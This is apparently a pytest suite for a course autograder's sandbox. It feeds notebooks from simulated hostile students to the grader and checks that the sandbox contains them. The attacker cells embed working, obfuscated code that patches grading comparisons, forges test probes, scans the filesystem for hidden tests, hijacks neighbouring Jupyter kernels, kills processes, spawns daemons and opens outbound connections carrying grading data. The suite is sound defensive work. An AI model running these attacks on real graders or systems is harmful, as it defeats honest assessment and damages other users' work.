"""Grading in a sandbox (issue #13): hostile students, one notebook per attack class, next to honest ones.

One `grade` run (--jobs 2, a relative --out) over the fixture assignment (tests/fixtures/grading),
with the static tampering scan OFF, so that the sandbox alone stands in each attacker's way. Every attacker
answers ex1 and ex3 correctly (5 points) and sets ex2's `words` right only if its attack worked: it earns
exactly 5 of 01_basics's 6 points, and 6 means the attack succeeded. The attackers on the grading itself
(patched comparisons, forged or repeated probes, rewritten test cells) answer ex1 right and ex2 and ex3
wrongly in ways the visible tests miss: they earn 2, as does the `wrong` student who answers the same
without attacking. Each attack test asserts:
  1. the attacker scores only what it earned (5);
  2. the honest neighbours keep their scores (6 + 1 each; the blank student 0);
  3. nothing outside the run's scratch changed (the files each attack targets, the submissions, the
     fixture, the grader's code, the output folder a few seconds after the run; no file anywhere bears
     the attack's marker) and no process the sandboxes started is alive.
About two minutes on 2 cores.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import socket
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from course.grading import sandbox
from course.grading.grade import SandboxUnavailable, grade, sandbox_limits
from course.grading.release import build_release
from course.grading.report import summary_lines

pytestmark = pytest.mark.grading

REPO = Path(__file__).resolve().parent.parent
FIXTURE = Path(__file__).parent / "fixtures" / "grading" / "solutions"
BASICS, WORDS = "01_basics", "02_words"
MARKER = "course-sbx-" + os.urandom(4).hex()  # in every file an attacker writes, and in its processes
HONEST = ("honest_a", "honest_b")
SQUARE = "def square(x):\n    return x * x"
COUNT = "def count_tokens(text):\n    return len(text.split())"


def cell(nb, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def solution(name: str):
    return nbformat.read(FIXTURE / "fixture" / f"{name}.ipynb", as_version=4)


def attacker(attack: str, *, ex1: str = SQUARE, ex3: str = COUNT):
    """01_basics with right answers to ex1 and ex3, and `attack` as ex2 (it must set `ok`)."""
    nb = solution(BASICS)
    cell(nb, "ex1").source = ex1
    cell(nb, "ex3").source = ex3
    cell(nb, "ex2").source = (
        "ok = False\n" + attack + '\nwords = ["hello", "world"] if ok else ["nope"]\n'
        'print("ATTACK", {"ok": ok})'
    )
    return nb


WRONG_WORDS = 'words = ["world", "hello"]  # the right words, in the wrong order: sorted() passes'
WRONG_COUNT = "def count_tokens(text):\n    return 99 if '\\t' in text else len(text.split())"


def wrong(attack: str = ""):
    """01_basics: ex1 right; ex2 and ex3 wrong where only hidden tests look; `attack` before ex2's answer."""
    nb = solution(BASICS)
    cell(nb, "ex1").source = SQUARE
    cell(nb, "ex2").source = attack + "\n" + WRONG_WORDS
    cell(nb, "ex3").source = WRONG_COUNT
    return nb


# Obfuscated handles (builtins, __import__, setattr, the shell), past what a static scan could spot.
HANDLES = """
_b = getattr(len, '__s' + 'elf__')
_imp = getattr(_b, '__imp' + 'ort__')
_put = getattr(_b, 'set' + 'attr')
_shell = getattr(_b, 'get_' + 'ipython')()
_probe = _imp('course.grading.' + 'pro' + 'be', fromlist=['x'])
_real_emit = getattr(_probe, 'em' + 'it')
_M = 'application/vnd.course' + '.probe+json'
_show = getattr(_imp('IPython.dis' + 'play', fromlist=['x']), 'dis' + 'play')
"""

# (a) every comparison a test could use, patched to agree: the trusted helpers, torch's, the kernel's
# own copy of the verdict, builtins.
PATCHER = (
    HANDLES
    + """
_yes = lambda *a, **k: True
for _module, _names in [('course.grading.trusted', ['exact', 'close']), ('torch', ['allclose', 'equal']),
                        ('course.grading.verdict', ['same'])]:
    for _name in _names:
        _put(_imp(_module, fromlist=['x']), _name, _yes)
_put(_imp('course.grading.' + 'verdict', fromlist=['x']), 'problems_of', lambda *a, **k: [])
_put(_b, 'sor' + 'ted', lambda *a, **k: ['hello', 'world'])
_put(_b, 'a' + 'bs', lambda *a, **k: 0)
"""
)

# (b) probe bundles forged with display(): guessed keys, wrong values, the right words next to the real
# emission, a huge tolerance; after every cell and from a thread.
FORGER = (
    HANDLES
    + """
import threading, time
def _forge(*args, **kwargs):
    _show({_M: {'key': 'counts', 'value': [3, 3, 3], 'tol': 1e9}}, raw=True)
    _show({_M: {'key': 'words', 'value': ['hello', 'world']}}, raw=True)
    _show({_M: {'key': 'ex3-tests/counts', 'value': [1, 1, 1]}}, raw=True)
    _show({_M: {'key': 'squares', 'value': [0, 0, 0]}, 'text/plain': 'ok'}, raw=True)
_shell.events.register('post_run_cell', _forge)
def _keep_forging():
    for _ in range(200):
        _forge()
        time.sleep(0.05)
threading.Thread(target=_keep_forging, daemon=True).start()
"""
)

# (c) every probe emitted twice: the learner's value, then a "corrected" one (the right words).
TWICE = (
    HANDLES
    + """
def _twice(key, value, **kwargs):
    _real_emit(key, value, **kwargs)
    _real_emit(key, sorted(value) if key == 'words' else [4, 1, 2], **kwargs)
_put(_probe, 'em' + 'it', _twice)
"""
)

# (d) emit patched to send values of the expected shape (same length, plausible types), a huge tol.
SHAPER = (
    HANDLES
    + """
def _shaped(key, value, **kwargs):
    fake = [0.0 if isinstance(v, (int, float)) else '' for v in value] if isinstance(value, list) else value
    _real_emit(key, fake, tol=1e9)
_put(_probe, 'em' + 'it', _shaped)
"""
)

# (e) no probe emitted, text that looks like probe bundles printed instead.
PRINTER = (
    HANDLES
    + """
import json, sys
def _printed(key, value, **kwargs):
    bundle = {'key': key, 'value': ['hello', 'world'] if key == 'words' else [4, 1, 2]}
    print(json.dumps({'output_type': 'display_data', 'data': {_M: bundle}, 'metadata': {}}))
    sys.stdout.write(json.dumps({_M: bundle}) + '\\n')
    _show({'text/plain': json.dumps({_M: bundle}), 'application/json': {_M: bundle}}, raw=True)
_put(_probe, 'em' + 'it', _printed)
"""
)

# (f) whatever the kernel sees during a test cell (the arguments of every comparison, the notebook's
# variables), emitted after the cell under the keys the test used, instead of the learner's values.
EXFILTRATOR = (
    HANDLES
    + """
_seen, _keys = [], []
def _spy(*args, **kwargs):
    _seen.extend(args)
    return True
for _module, _names in [('course.grading.trusted', ['exact', 'close']), ('torch', ['allclose', 'equal'])]:
    for _name in _names:
        _put(_imp(_module, fromlist=['x']), _name, _spy)
_put(_probe, 'em' + 'it', lambda key, value, **kwargs: _keys.append((key, value)))
def _leak(*args, **kwargs):
    names = [v for n, v in list(_shell.user_ns.items()) if n.startswith('_') and n not in ('_seen', '_keys')]
    for key, mine in _keys:
        others = [v for v in _seen + names if type(v) is type(mine) and v is not mine and v != mine]
        _real_emit(key, others[0] if others else mine)  # what a comparison saw first
    _keys.clear()
    _seen.clear()
_shell.events.register('post_run_cell', _leak)
"""
)

# (g) the test cells rewritten before they run: no hidden tests, a number as partial credit.
REWRITER = (
    HANDLES
    + """
def _rewrite(lines):
    if any('BEGIN HIDDEN' + ' TESTS' in line for line in lines):
        return ['pass\\n', '1\\n']
    return lines
_shell.input_transformers_post.append(_rewrite)
"""
)

GRADING_ATTACKS = {
    "patcher": PATCHER,
    "forger": FORGER,
    "twice": TWICE,
    "shaper": SHAPER,
    "printer": PRINTER,
    "exfiltrator": EXFILTRATOR,
    "rewriter": REWRITER,
}


def _host_ip() -> str:
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("10.255.255.255", 1))
        return probe.getsockname()[0]
    except OSError:
        return "127.0.0.1"
    finally:
        probe.close()


def _outside_ip() -> str:
    try:
        return socket.getaddrinfo("pypi.org", 443, socket.AF_INET)[0][4][0]
    except OSError:
        return "1.1.1.1"


class Listener:
    """A TCP server on every host interface: it records whatever connects."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.server.bind(("0.0.0.0", 0))
        self.server.listen(16)
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received: list[str] = []
        self.stop = False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stop:
            try:
                conn, address = self.server.accept()
            except OSError:
                continue
            self.received.append(f"connection from {address}")
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join(2)
        self.server.close()


def attacks(out: Path, submitted: Path, limits: dict, port: int) -> dict:
    """student -> 01_basics notebook, one per attack class of the issue."""
    from course.data import data_dir
    from course.env import cache_dir
    from course.standins import minilm_dir

    found_hidden = f"""
def _read_everything():
    import os, time
    hits, started = [], time.time()
    known = [{str(out / "nbgrader" / "solutions" / "fixture" / f"{BASICS}.ipynb")!r},
             {str(out / "nbgrader" / "expected" / "fixture" / f"{BASICS}.json")!r},
             {str(FIXTURE / "fixture" / f"{BASICS}.ipynb")!r},
             {str(REPO / "solutions" / "chapter2" / "01_behind_the_pipeline.ipynb")!r}]
    roots = [{str(out)!r}, {str(submitted)!r}, {str(REPO)!r}, {str(FIXTURE)!r}, "/work", "/root", "/home",
             "/srv", "/var/tmp", "/run", "/"]
    paths = list(known)
    for root in roots:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
            paths += [os.path.join(folder, f) for f in files if f.endswith((".ipynb", ".json"))]
            if time.time() - started > 3:
                break
    for path in paths:
        try:
            text = open(path).read()
        except OSError:
            continue
        if ("[square(n) for" + " n in (0, -4, 12)]" in text or "return s.upper()" + ' + "!"' in text
                or '"negative numbers' + ' too"' in text):  # the fixture's hidden tests, solution, expected
            hits.append(path)
            print(text[:2000])  # the hidden tests, into this notebook's output (and feedback)
    return hits
"""
    reader = found_hidden + (
        "hits = _read_everything()\n"
        "print('history:', In)  # the hidden test of ex1 ran before this cell: is it in the feedback?\n"
        "ok = bool(hits)"
    )

    gradebook = out / "nbgrader" / "gradebook.db"
    targets = [
        gradebook,
        out / "scores.csv",
        out / "results.json",
        out / "work" / "writer" / "fixture" / BASICS / "gradebook.db",
        out / "work" / "honest_a" / "fixture" / BASICS / "gradebook.db",
        submitted / "honest_a" / "fixture" / f"{BASICS}.ipynb",
        out / "nbgrader" / "submitted" / "honest_a" / "fixture" / f"{BASICS}.ipynb",
    ]
    writer = f"""
import sqlite3
wrote = []
for path in {[str(t) for t in targets]!r}:
    try:
        with open(path, "a") as handle:
            handle.write({MARKER!r})
        wrote.append(path)
    except OSError:
        pass
for path in [{str(gradebook)!r}, {str(out / "work" / "writer" / "fixture" / BASICS / "gradebook.db")!r}]:
    try:
        db = sqlite3.connect("file:" + path + "?mode=rw", uri=True)
        db.execute("update grade set auto_score = 0")
        db.commit()
        wrote.append(path + " (sql)")
    except Exception:
        pass
for folder in [{str(out)!r}, {str(out / "nbgrader")!r}, {str(submitted / "honest_a")!r}]:
    try:
        open(folder + "/" + {MARKER!r}, "w").write("x" * 50_000_000)
        wrote.append(folder)
    except OSError:
        pass
print("wrote", wrote)
ok = bool(wrote)
"""

    later = out / "scores.csv"
    outliver = f"""
import os, subprocess, sys, time
script = ("import time, os; time.sleep(3); "
          "open({str(later)!r}, 'a').write('outlived'); open('/tmp/x', 'w')  # " + {MARKER!r})
child = subprocess.Popen([sys.executable, "-c", script], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # a double-forked daemon as well
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", script])
    os._exit(0)
os.wait()
print("spawned", child.pid)
"""

    gt_model = minilm_dir() / "model.safetensors"
    data_file = sorted(p for p in data_dir().rglob("*") if p.is_file())[0]
    sst2 = cache_dir() / "sst2-minilm-v3" / "model.safetensors"
    changed_files = [
        REPO / "course" / "grading" / "trusted.py",
        REPO / "course" / "__init__.py",
        REPO / "nbgrader_config.py",
        Path(sys.prefix)
        / "lib"
        / f"python{sys.version_info[0]}.{sys.version_info[1]}"
        / "site-packages"
        / "nbgrader"
        / "__init__.py",
        gt_model,
        data_file,
        sst2,
        FIXTURE / "fixture" / f"{BASICS}.ipynb",
    ]
    changer = f"""
import os
changed = []
for path in {[str(p) for p in changed_files]!r}:
    for attempt in ("append", "chmod", "utime", "rename", "sibling"):
        try:
            if attempt == "append":
                open(path, "ab").write({MARKER!r}.encode())
            elif attempt == "chmod":
                os.chmod(path, 0o777)
            elif attempt == "utime":
                os.utime(path, (0, 0))
            elif attempt == "rename":
                os.rename(path, path + ".{MARKER}")
            else:
                open(os.path.join(os.path.dirname(path), {MARKER!r}), "w").write("x")
            changed.append(attempt + " " + path)
        except OSError:
            pass
print("changed", changed)
ok = bool(changed)
"""

    neighbour = f"""
import glob, json, os, signal, time
own_key = json.load(open("/tmp/.kernel/connection.json"))["key"]
def _connection(path):  # a kernel connection file, not this kernel's own
    try:
        info = json.load(open(path))
    except Exception:
        return False
    return isinstance(info, dict) and "shell_port" in info and info.get("key") != own_key
found = set()
started = time.time()
while time.time() - started < 4:  # the neighbours' kernels run meanwhile (--jobs 2)
    for pattern in ["/tmp/**/*.json", os.path.expanduser("~/.local/share/jupyter/runtime/*.json"),
                    "/root/.local/share/jupyter/runtime/*.json", {str(out / "work")!r} + "/**/*.json",
                    "/run/**/*.json", "/proc/*/root/tmp/.kernel/*.json"]:
        found.update(p for p in glob.glob(pattern, recursive=True) if _connection(p))
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                args = open(f"/proc/{{pid}}/cmdline").read().split("\\0")
            except OSError:
                continue
            if "-f" in args and _connection(args[args.index("-f") + 1]):
                found.add(args[args.index("-f") + 1])
    time.sleep(0.2)
for path in found:
    try:
        from jupyter_client import BlockingKernelClient
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        client.execute("def square(x):\\n    return 0\\nwords = []")
    except Exception:
        pass
try:
    os.kill(-1, signal.SIGKILL)  # every process this user may signal
except ProcessLookupError:  # none
    pass
print("found", sorted(found))
ok = bool(found)
"""

    network = f"""
import socket
reached = []
for address in [("127.0.0.1", {port}), ({_host_ip()!r}, {port}), ({_outside_ip()!r}, 443), ("1.1.1.1", 53)]:
    try:
        with socket.create_connection(address, timeout=2) as conn:
            conn.sendall(b"hidden tests " + {MARKER!r}.encode())
        reached.append(address)
    except OSError:
        pass
for name in ("pypi.org", "example.com"):
    try:
        socket.getaddrinfo(name, 443)
        reached.append(name)
    except OSError:
        pass
try:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b"x", ("8.8.8.8", 53))
    reached.append("udp")
except OSError:
    pass
print("reached", reached)
ok = bool(reached)
"""

    mib = 1024 * 1024
    memory_bytes = (limits["memory_mb"] + 512) * mib
    cgroups = sandbox.cgroups_available()
    resources = f"""
import os, resource, signal, subprocess, sys, time
escaped = []
if os.getuid() == 0 or os.geteuid() == 0:
    escaped.append("root")
limits = {{name: resource.getrlimit(getattr(resource, "RLIMIT_" + name))[1]
          for name in ("AS", "NPROC", "FSIZE", "CPU")}}
print("limits", limits)
try:
    held = bytearray({memory_bytes})  # more than the address-space limit
    escaped.append("memory")
    del held
except MemoryError:
    pass
if {cgroups!r}:  # a child touching more than the whole sandbox may hold: the cgroup stops it
    code = ("b = bytearray({(limits["total_memory_mb"] + 256) * mib}); "
            "b[::4096] = bytes(len(b) // 4096); print('held')")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    if "held" in done.stdout:
        escaped.append("total memory")
children = []
try:
    for _ in range({limits["processes"] + 50}):
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        children.append(pid)
    escaped.append("processes")
except OSError:
    pass
print("forked", len(children))
for pid in children:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
try:
    with open("big-{MARKER}", "wb") as handle:
        for _ in range({limits["file_mb"] + 1}):
            handle.write(bytes({mib}))
    escaped.append("file size")
except OSError:
    pass
os.remove("big-{MARKER}")
written = 0
try:
    for index in range(10_000):
        with open(f"/tmp/fill-{{index}}", "wb") as handle:
            for _ in range(64):
                handle.write(bytes({mib}))
                written += {mib}
except OSError:
    pass
if written > {limits["scratch_mb"] * mib}:
    escaped.append("scratch")
for name in os.listdir("/tmp"):
    if name.startswith("fill-"):
        os.remove("/tmp/" + name)
print("escaped", escaped, "scratch written", written // {mib}, "MiB")
ok = bool(escaped)
"""

    hidden_text = solution(BASICS)
    cell(hidden_text, "ex1").source = "# ### BEGIN HIDDEN TESTS (typed by the learner)\n" + SQUARE
    meta = solution(BASICS)
    cell(meta, "ex3-tests").metadata["nbgrader"]["points"] = "100"
    cell(meta, "ex1").metadata["nbgrader"].update(grade=True, points=50)

    return {
        "reader": attacker(reader),
        "writer": attacker(writer),
        "outliver": attacker(outliver),
        "changer": attacker(changer),
        "neighbour": attacker(neighbour),
        "network": attacker(network),
        "resources": attacker(resources),
        **{name: wrong(attack) for name, attack in GRADING_ATTACKS.items()},
        "wrong": wrong(),
        "hidden_text": hidden_text,
        "meta_tamper": meta,
    }, [*changed_files, *targets[5:6]]


EXPECTED = {
    **{name: (6, 1) for name in HONEST},
    "blank": (0, 0),
    **{
        name: (5, 0)
        for name in ("reader", "writer", "outliver", "changer", "neighbour", "network", "resources")
    },
    **{name: (2, 0) for name in [*GRADING_ATTACKS, "wrong"]},
    "hidden_text": (6, 0),
    "meta_tamper": (6, 0),
}


def _digest(path: Path) -> tuple:
    st = path.lstat()
    content = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else ""
    return (st.st_size, st.st_mtime_ns, st.st_mode, content)


def snapshot(roots) -> dict[str, tuple]:
    files: dict[str, tuple] = {}
    for root in map(Path, roots):
        for path in [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file()):
            files[str(path)] = _digest(path)
    return files


SKIP = {".venv", ".git", "node_modules", "__pycache__"}


def marked(roots, since: float, depth: int = 99, skip: tuple[str, ...] = ()) -> list[str]:
    """Paths under `roots` named after the marker, or files written since `since` with it inside."""
    hits = []
    for root in map(str, roots):
        if not os.path.isdir(root):
            continue
        top = root.rstrip("/").count("/")
        for folder, dirs, files in os.walk(root):
            dirs[:] = [
                d
                for d in dirs
                if d not in SKIP
                and not os.path.join(folder, d).startswith(skip)
                and folder.count("/") - top < depth
            ]
            for name in dirs + files:
                path = os.path.join(folder, name)
                try:
                    if MARKER in name:
                        hits.append(path)
                    elif name in files and os.path.getmtime(path) >= since and os.path.getsize(path) < 5e7:
                        if MARKER.encode() in Path(path).read_bytes():
                            hits.append(path)
                except OSError:
                    pass
    return hits


def _describe(pid: int) -> str:
    try:
        status = Path(f"/proc/{pid}/status").read_text().splitlines()
        cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ")[:200]
    except OSError:
        return f"{pid} (gone)"
    fields = [line for line in status if line.startswith(("State:", "Uid:", "PPid:"))]
    return f"{pid} {fields} {cmdline!r}"


def marked_processes() -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if MARKER.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(entry)
            except OSError:
                pass
    return found


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    from course.data import data_dir
    from course.env import cache_dir

    if sandbox.unavailable():
        pytest.skip(f"no sandbox here: {sandbox.unavailable()}")
    base = tmp_path_factory.mktemp("sandbox")
    release = build_release(FIXTURE, base / "release")
    submitted = base / "submitted"
    out_relative = Path("out")  # relative, as `course grade`'s default --out is
    out = base / out_relative
    limits = sandbox_limits()
    listener = Listener()
    notebooks, targeted = attacks(out, submitted, limits, listener.port)
    for name in HONEST:
        notebooks_of = {BASICS: solution(BASICS), WORDS: solution(WORDS)}
        for nb_name, nb in notebooks_of.items():
            (submitted / name / "fixture").mkdir(parents=True, exist_ok=True)
            nbformat.write(nb, submitted / name / "fixture" / f"{nb_name}.ipynb")
    (submitted / "blank" / "fixture").mkdir(parents=True)
    nbformat.write(
        nbformat.read(release / "fixture" / f"{BASICS}.ipynb", as_version=4),
        submitted / "blank" / "fixture" / f"{BASICS}.ipynb",
    )
    for name, nb in notebooks.items():
        (submitted / name / "fixture").mkdir(parents=True)
        nbformat.write(nb, submitted / name / "fixture" / f"{BASICS}.ipynb")

    watched = [
        submitted,
        FIXTURE,
        REPO / "course" / "grading",
        REPO / "nbgrader_config.py",
        data_dir(),
        *targeted,
    ]
    watched = [w for w in watched if Path(w).exists()]
    before = snapshot(watched)
    started = time.time()
    cwd = os.getcwd()
    os.chdir(base)
    try:
        run = grade(
            submitted, out_relative, jobs=2, timeout=30, source_root=FIXTURE, scan=False, progress=False
        )
    finally:
        os.chdir(cwd)
    right_after = snapshot([out])
    print("\n".join(summary_lines(run)))
    time.sleep(4)  # an outliving process would write now
    listener.close()
    by_key = {(o.submission.student, o.submission.notebook): o for o in run.outcomes}
    skip = (str(base), "/tmp/pytest-of")
    found = marked([REPO, cache_dir(), data_dir()], started, skip=skip)
    found += marked(["/tmp", "/var/tmp", "/dev/shm", "/root", "/work"], started, depth=2, skip=skip)
    state = {
        "run": run,
        "by_key": by_key,
        "out": out,
        "changed": {k: (before.get(k), v) for k, v in snapshot(watched).items() if before.get(k) != v}
        | {k: (v, None) for k, v in before.items() if not Path(k).exists()},
        "out_changed_later": [k for k, v in snapshot([out]).items() if right_after.get(k) != v],
        "marked": sorted(set(found)),
        "processes": marked_processes(),
        "uid_processes": [_describe(p) for uid in run.sandbox["uids"] for p in sandbox.processes_of(uid)],
        "received": listener.received,
    }
    return state


def scores(batch, student: str) -> tuple[float, float]:
    return tuple(
        batch["by_key"][(student, n)].score if (student, n) in batch["by_key"] else 0.0
        for n in (BASICS, WORDS)
    )


def output_of(batch, student: str) -> str:
    path = batch["out"] / "nbgrader" / "autograded" / student / "fixture" / f"{BASICS}.ipynb"
    nb = nbformat.read(path, as_version=4)
    return "\n".join(
        str(o.get("text", "")) + str(o.get("evalue", "")) for o in cell(nb, "ex2").get("outputs", [])
    )


def three_things(batch, student: str) -> None:
    """The issue's three assertions for one attacker."""
    assert scores(batch, student) == EXPECTED[student], (student, output_of(batch, student))
    for name in HONEST:
        assert scores(batch, name) == (6.0, 1.0), name
    assert scores(batch, "blank") == (0.0, 0.0)
    assert batch["changed"] == {}, "files outside the run's scratch changed"
    assert batch["out_changed_later"] == [], "the output folder changed after `grade` returned"
    assert batch["marked"] == [], "an attacker's file exists outside its sandbox"
    assert batch["processes"] == [] and batch["uid_processes"] == [], "a sandboxed process is alive"
    assert batch["run"].exit_code == 0


def test_reading_tests_and_solutions(batch):
    three_things(batch, "reader")
    assert "'ok': False" in output_of(batch, "reader")
    feedback = (batch["out"] / "feedback" / "reader" / "fixture" / f"{BASICS}.html").read_text()
    assert "[square(n) for n in (0, -4, 12)]" not in feedback and "BEGIN HIDDEN" not in feedback
    assert "output hidden by the grader" in feedback  # the history it printed quoted the hidden test


def test_writing_gradebooks_scores_and_other_submissions(batch):
    three_things(batch, "writer")
    assert "wrote []" in output_of(batch, "writer")


def test_no_process_outlives_the_kernel(batch):
    three_things(batch, "outliver")
    assert "spawned" in output_of(batch, "outliver")


def test_grader_code_standins_and_data_cannot_be_changed(batch):
    three_things(batch, "changer")
    assert "changed []" in output_of(batch, "changer")


def test_neighbour_kernels_are_out_of_reach(batch):
    three_things(batch, "neighbour")
    assert "found []" in output_of(batch, "neighbour")


def test_no_network(batch):
    three_things(batch, "network")
    assert "reached []" in output_of(batch, "network")
    assert batch["received"] == []


def test_resource_limits(batch):
    three_things(batch, "resources")
    text = output_of(batch, "resources")
    assert "escaped []" in text, text
    limits = batch["run"].sandbox["limits"]
    mib = 1024 * 1024
    assert f"'AS': {limits['memory_mb'] * mib}" in text and f"'NPROC': {limits['processes']}" in text
    assert f"'FSIZE': {limits['file_mb'] * mib}" in text and f"'CPU': {limits['cpu_s']}" in text


def _test_messages(batch, student: str) -> dict[str, str]:
    return {t["grade_id"]: t["message"] for t in batch["by_key"][(student, BASICS)].tests}


@pytest.mark.parametrize("student", list(GRADING_ATTACKS))
def test_in_kernel_patches_and_forged_probes_do_not_pass_wrong_answers(batch, student):
    """Points are decided outside the kernel, on probes judged against values the kernel never sees:
    (a) patched comparisons (trusted, torch, the kernel's copy of the verdict, builtins), (b) forged
    probe bundles, (c) repeated probes, (d) a patched emit sending expected-looking values, (e) printed
    look-alikes, (f) whatever the kernel saw, emitted late, (g) test cells rewritten before they run."""
    three_things(batch, student)
    assert scores(batch, "wrong") == (2.0, 0.0)  # the same answers without an attack
    messages = _test_messages(batch, student)
    assert messages["ex1-tests"] == ""  # earned: the attack did not cost it either
    for grade_id, key in (("ex2-tests", "words"), ("ex3-tests", "counts")):
        assert messages[grade_id].startswith(f"ProbeMismatch: [NOT YET] {key} "), messages
        assert "hello" not in messages[grade_id] and "4, 1, 2" not in messages[grade_id]
    record = batch["by_key"][(student, BASICS)]
    notebook = nbformat.read(
        batch["out"] / "nbgrader" / "autograded" / student / "fixture" / f"{BASICS}.ipynb", as_version=4
    )
    assert set(notebook.metadata["course_grading"]["probes"]) == {"ex1-tests", "ex2-tests", "ex3-tests"}
    feedback = (batch["out"] / "feedback" / student / "fixture" / f"{BASICS}.html").read_text()
    if student != "printer":  # (which printed look-alikes: text, shown as printed)
        assert "vnd.course.probe" not in feedback  # no probe, forged or not, in what the learner reads
    assert record.max_score == 6


def test_probe_verdicts_name_the_failure(batch):
    assert "reported 2 times" in _test_messages(batch, "twice")["ex2-tests"]
    # the forger's thread emits every 50 ms: how many land in the test cell depends on the machine's load
    assert re.search(r"words was reported [2-9] times", _test_messages(batch, "forger")["ex2-tests"])
    assert "was not reported" in _test_messages(batch, "printer")["ex2-tests"]
    assert "was not reported" in _test_messages(batch, "rewriter")["ex3-tests"]
    assert "differs from the expected value" in _test_messages(batch, "shaper")["ex3-tests"]
    assert "differs from the expected value" in _test_messages(batch, "wrong")["ex3-tests"]
    # the exfiltrator's own emit was a no-op: what the grader judged is what its hook sent after the cell
    assert "words differs from the expected value" in _test_messages(batch, "exfiltrator")["ex2-tests"]
    assert "differs from the expected value" in _test_messages(batch, "patcher")["ex3-tests"]


def test_relative_default_out_and_exit_status(batch):
    """Side findings: a relative --out works; learners' doings never make the exit status non-zero."""
    run = batch["run"]
    assert run.exit_code == 0 and not any(o.status == "error" for o in run.outcomes)
    assert (batch["out"] / "scores.csv").is_file()


def test_hidden_tests_marker_in_an_answer_keeps_points_and_feedback(batch):
    three_things(batch, "hidden_text")
    assert not any("feedback" in p for p in batch["by_key"][("hidden_text", BASICS)].problems)
    feedback = batch["out"] / "feedback" / "hidden_text" / "fixture" / f"{BASICS}.html"
    assert "typed by the learner" in feedback.read_text()


def test_metadata_tamper_is_undone_not_a_grading_failure(batch):
    three_things(batch, "meta_tamper")
    assert "nbgrader metadata edited" in " ".join(batch["by_key"][("meta_tamper", BASICS)].problems)
    assert batch["by_key"][("meta_tamper", BASICS)].max_score == 6


# --- without bubblewrap ------------------------------------------------------------------------------


def test_refuses_without_a_sandbox_and_says_why(tmp_path, monkeypatch, capsys):
    from course.cli import main

    monkeypatch.setattr(sandbox, "unavailable", lambda: "bubblewrap is not installed")
    (tmp_path / "sub" / "s" / "fixture").mkdir(parents=True)
    with pytest.raises(SandboxUnavailable, match="unsafe-no-sandbox"):
        grade(tmp_path / "sub", tmp_path / "out", source_root=FIXTURE, progress=False)
    assert main(["grade", str(tmp_path / "sub"), "--out", str(tmp_path / "out2")]) == 1
    err = capsys.readouterr().err
    assert "bubblewrap is not installed" in err and "--unsafe-no-sandbox" in err and "docker" in err


def test_datasets_cache_is_writable_inside_and_untouched_outside(tmp_path):
    """`Dataset.map` writes its cache next to the arrow files: in the sandbox's mirror, not the real home."""
    from course.env import cache_dir

    if sandbox.unavailable():
        pytest.skip(f"no sandbox here: {sandbox.unavailable()}")
    real = cache_dir() / "hf-home" / "datasets"
    if not real.is_dir():
        pytest.skip("no offline Hugging Face home (course prepare-offline)")
    code = """
import json, os, course
course.setup(verbose=False)
from datasets import load_dataset
raw = load_dataset("glue", "mrpc", split="validation")
mapped = raw.map(lambda row: {"n": len(row["sentence1"])})
files = [f["filename"] for f in mapped.cache_files]
print(json.dumps({"files": files, "home": os.environ["HF_DATASETS_CACHE"]}))
"""
    done = sandbox.run_inside(code, staging=tmp_path, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert report["home"] == str(real)  # the libraries use the real path, which is the writable mirror
    created = [Path(f).name for f in report["files"] if Path(f).name.startswith("cache-")]
    assert created, report
    assert not any(p.name in created for p in real.rglob("cache-*.arrow")), "the real home was written"
